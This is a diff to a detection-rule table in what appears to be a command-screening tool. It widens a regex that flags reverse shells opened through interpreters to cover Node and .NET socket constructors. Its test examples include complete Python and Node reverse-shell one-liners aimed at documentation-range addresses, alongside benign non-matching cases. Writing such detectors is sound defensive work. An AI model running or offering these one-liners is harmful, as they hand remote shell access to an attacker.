@@ -521,15 +521,22 @@ RULES = [
         "recovery": "Treat the machine as compromised: disconnect it, rotate credentials, rebuild.",
         "match": {
             "cmd": _INTERPRETERS,
-            "code": r"(socket|TCPSocket|fsockopen|net\.connect|Socket\.new|IO::Socket)"
-            r".*(dup2|pty\.spawn|/bin/(ba|z)?sh|exec|spawn|popen|system)",
+            # a socket made by any language's constructor (node `new net.Socket()`, `net.createConnection`,
+            # .NET `TCPClient`) as well as the lower-case calls
+            "code": r"(socket|Socket\(|TCPSocket|TcpClient|TCPClient|createConnection|fsockopen|net\.connect"
+            r"|Socket\.new|IO::Socket).*(dup2|pty\.spawn|/bin/(ba|z)?sh|exec|spawn|popen|system)",
         },
         "examples": {
             "match": [
                 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.4",4242));'
-                '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''
+                '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
+                "node -e \"const n=require('net'),c=require('child_process');const s=new n.Socket();"
+                "s.connect(9001,'203.0.113.8',()=>{const p=c.spawn('/bin/bash');"
+                "s.pipe(p.stdin);p.stdout.pipe(s)})\"",
             ],
-            "no_match": ["python3 -c 'import socket; print(socket.gethostname())'"],
+            "no_match": ["python3 -c 'import socket; print(socket.gethostname())'",
+                         "node -e \"const s=new (require('net').Socket)();"
+                         "s.connect(6379,'127.0.0.1',()=>s.end())\""],
         },
     },
     {
